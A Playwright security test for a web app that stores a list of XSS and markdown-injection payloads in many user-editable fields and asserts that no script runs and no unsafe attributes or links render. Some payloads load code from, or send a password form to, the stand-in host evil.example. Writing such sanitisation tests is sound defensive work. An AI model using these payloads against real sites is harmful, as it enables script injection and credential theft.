import type { Page } from "@playwright/test";
import { v7 } from "uuid";
import type { Command } from "@/lib/commands/define-command";
import { execute } from "@/lib/commands/execute";
import { connect } from "@/lib/db/client";
import { changeProfile } from "@/lib/features/account/commands/change-profile";
import { askQuestion } from "@/lib/features/discussion/commands/ask-question";
import { postComment } from "@/lib/features/discussion/commands/post-comment";
import { writeNote } from "@/lib/features/discussion/commands/write-note";
import { inviteMember } from "@/lib/features/invitation/commands/invite-member";
import { createProject } from "@/lib/features/project/commands/create-project";
import { draftRequirement } from "@/lib/features/requirement/commands/draft-requirement";
import { PersonId } from "@/lib/kernel/ids";
import { instantOf } from "@/lib/kernel/instant";
import type { App } from "@/tests/support/app-server";
import { expect, test } from "@/tests/support/journey";
import { enterDemo } from "@/tests/support/people";

test.use({ demo: true, trace: "off" });

const ines = "Inès Belkacem";
const stranger = "https://evil.example";
const run = "window.pwned('ran')";

/** What people type who want a page to run something, ask somebody, or lead elsewhere. `«»` stands for a blank line. */
const payloads: readonly string[] = [
  `<script>${run}</script>`,
  `"><script src="${stranger}/x.js"></script>`,
  `<img src=x onerror="${run}"><img src="${stranger}/pixel.gif">`,
  `<svg/onload="${run}"><svg><script>${run}</script></svg>`,
  `<iframe srcdoc="<script>parent.pwned('ran')</script>"></iframe><iframe src="javascript:${run}"></iframe>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${run}&gt;">`,
  `<svg></p><style><a id="</style><img src=x onerror=${run}>">`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<template><s><template><s><img src=x onerror=${run}>x</s></template>`,
  `<form action="${stranger}"><input name="password"><button>Signer</button></form>`,
  `<base href="${stranger}/"><link rel="stylesheet" href="${stranger}/x.css"><meta http-equiv="refresh" content="0;url=${stranger}">`,
  `<style>@import url(${stranger}/x.css);*{background:url(${stranger}/y)}</style>`,
  `<div style="position:fixed;inset:0;background:url(${stranger}/z)" onmouseover="${run}">x</div>`,
  `[cliquez](javascript:${run}) [ici](JaVaScRiPt:${run}) [là](java&#115;cript:${run})`,
  `[a](data:text/html,<script>${run}</script>) [b](vbscript:x) [c](blob:x) [d](//evil.example)`,
  `[e](<javascript:${run}>) [f]( &#1;javascript:${run}) [g](java\tscript:${run})«»[h]: javascript:${run}«»[h]`,
  `![pixel](${stranger}/p.gif) ![x](javascript:${run}) ![y](data:image/svg+xml;base64,PHN2Zy8+ "x\\" onerror=\\"${run}")`,
  `<javascript:${run}> <${stranger}> ${stranger}/automatique www.evil.example evil@evil.example`,
  `[^1]«»[^1]: <img src=x onerror=${run}> [x](javascript:${run})`,
  `| <script>${run}</script> | [x](javascript:${run}) |\n|---|---|\n| \`</td><script>${run}</script>\` | x |`,
  "```<script>window.pwned('ran')</script>\n</code></pre><script>window.pwned('ran')</script>\n```",
  `{{constructor.constructor("${run}")()}} \${${run}} #{${run}} <%= ${run} %> {t('x')} {count, plural, one {x}}`,
  "</script><script>window.pwned('ran')</script> ]]> --> */ \u2028window.pwned('ran')\u2029",
  "\u202Exe.exe\u202C \u2066gpj.exe\u2069 \u200Fabc\u200E \uFEFF a\u0300\u0301\u0302\u0303 \u{E0041}",
  `x" autofocus onfocus="${run}" x='${run}' \`${run}\``,
];

const blank = (payload: string): string => payload.replaceAll("«»", "\n\n");
const line = (payload: string): string => blank(payload).replaceAll("\n", " ").slice(0, 190);

/** Says everything that a person can say, with this payload in every place. Answers where to look. */
async function sayEverywhere(app: App, project: string): Promise<string[]> {
  const db = connect(app.database.appUrl, 4);
  const door = { db, clock: { now: () => instantOf(new Date()) }, newId: () => v7() };
  const rows = await db.$queryRaw<{ person_id: string }[]>`
    SELECT person_id FROM person_identity WHERE display_name = ${ines} LIMIT 1`;
  const actor = { personId: PersonId.parse(rows[0]?.person_id), sessionId: null };
  const say = async (command: Command, input: unknown, where?: string): Promise<Record<string, unknown>> => {
    const call = { commandId: v7(), input, ...(where === undefined ? {} : { project: where }) };
    const answer = await execute(door, command, actor, call);
    if (!answer.ok) throw new Error(`${command.name}: ${JSON.stringify(answer.error).slice(0, 500)}`);
    return Object.fromEntries(Object.entries(answer.value.result ?? {}));
  };
  const places: string[] = [];
  for (const payload of payloads) {
    const [text, name] = [blank(payload), line(payload)];
    const { code } = await say(
      draftRequirement,
      {
        ...{ title: name, statement: text, kind: "QUALITY", priority: "MUST", source: name, rationale: text },
        ...{ verificationMethod: "TEST", chapter: name },
        criteria: [
          {
            reference: "",
            measure: name,
            target: name,
            method: "TEST",
            given: text,
            when: text,
            outcome: text,
            flexibility: "F0",
          },
        ],
      },
      project,
    );
    const subject = { kind: "REQUIREMENT", code };
    await say(postComment, { subject, text }, project);
    await say(writeNote, { subject, text }, project);
    await say(askQuestion, { subject, text, blocking: false, to: "AGENCY" }, project);
    places.push(`/projects/${project}/requirements/${code}`);
  }
  const organisation = { name: line(payloads[2] ?? ""), legalForm: line(payloads[0] ?? "").slice(0, 100) };
  const poisoned = await say(createProject, {
    ...{ name: line(payloads[2] ?? ""), objective: payloads.map(blank).join("\n\n").slice(0, 4900), side: "CLIENT" },
    ...{ currency: "EUR", timeZone: "Europe/Paris", calendar: "FR" },
    organisation: { ...organisation, registrationNumber: "<b>1</b>", city: line(payloads[3] ?? "").slice(0, 100) },
  });
  const own = String(poisoned.code);
  await say(
    inviteMember,
    {
      ...(await partyOf(door.db, own)),
      name: line(payloads[0] ?? ""),
      email: "mallory@example.test",
      roles: ["CLIENT_OWNER"],
      substitute: false,
    },
    own,
  );
  await say(changeProfile, {
    ...{ displayName: line(payloads[2] ?? ""), title: line(payloads[0] ?? ""), gender: "unspecified" },
    ...{ locale: "fr", theme: "light", density: "comfortable" },
  });
  await db.$disconnect();
  const rooms = ["", "/members", "/settings", "/ledger", "/requirements", "/charter"].map(
    (room) => `/projects/${own}${room}`,
  );
  const lists = ["/requirements", "/questions", "/ledger", "/members"].map((room) => `/projects/${project}${room}`);
  return [...places, ...lists, ...rooms, "/projects", "/to-do", "/profile", "/dev/mail"];
}

async function partyOf(db: ReturnType<typeof connect>, code: string): Promise<{ partyId: string }> {
  const rows = await db.$queryRaw<{ id: string }[]>`
    SELECT (p ->> 'partyId') AS id FROM (SELECT aval_enter((SELECT person_id FROM person_identity WHERE display_name = ${ines} LIMIT 1), ${code}) AS p) x`;
  return { partyId: rows[0]?.id ?? "" };
}

/** In the page: what must not be in it, one line each. */
function planted(): string[] {
  const attributes = [...document.querySelectorAll("body *")].flatMap((node) =>
    [...node.attributes].map(({ name, value }) => ({ name, value, tag: node.tagName.toLowerCase() })),
  );
  const led = /^(href|src|srcset|action|formaction|srcdoc|background)$/;
  const wrong = attributes.filter(
    ({ tag, name, value }) =>
      name.startsWith("on") ||
      (led.test(name) && /^\s*(javascript|vbscript|data|blob):/i.test(value)) ||
      (led.test(name) && tag !== "a" && value.includes("evil") && name !== "srcdoc"),
  );
  const links = [...document.querySelectorAll<HTMLAnchorElement>("a[href]")].filter(
    ({ protocol, origin, rel }) =>
      !["http:", "https:", "mailto:"].includes(protocol) ||
      (protocol !== "mailto:" && origin !== location.origin && !rel.includes("noopener")),
  );
  return [
    ...wrong.map(({ tag, name, value }) => `${tag} ${name}=${value}`),
    ...links.map(({ href, rel }) => `link ${href} ${rel}`),
    ...[...document.querySelectorAll("body :is(base, object, embed, frame, meta)")].map((node) => node.outerHTML),
  ];
}

test("nothing that people type runs, asks somebody else, or leads elsewhere unseen, in any page that shows it", async ({
  app,
  newPerson,
}) => {
  test.setTimeout(300_000);
  const page: Page = await newPerson();
  const ran: string[] = [];
  await page.exposeFunction("pwned", (what: string) => ran.push(what));
  page.on("dialog", (dialog) => {
    ran.push(dialog.message());
    void dialog.dismiss();
  });
  page.on("popup", (opened) => ran.push(`opened ${opened.url()}`));
  await enterDemo(page, ines);
  await page.goto("/projects");
  const href =
    (await page
      .getByRole("link", { name: /Refonte/ })
      .first()
      .getAttribute("href")) ?? "";
  const places = await sayEverywhere(app, href.replace("/projects/", ""));
  for (const place of places) {
    const answer = await page.goto(place);
    expect(answer?.status(), place).toBe(200);
    expect(new URL(page.url()).pathname).toBe(place);
    expect(await page.evaluate(planted), place).toEqual([]);
  }
  expect(await page.evaluate(() => Reflect.get(globalThis, "pwned") !== undefined)).toBe(true);
  expect(ran).toEqual([]);
});
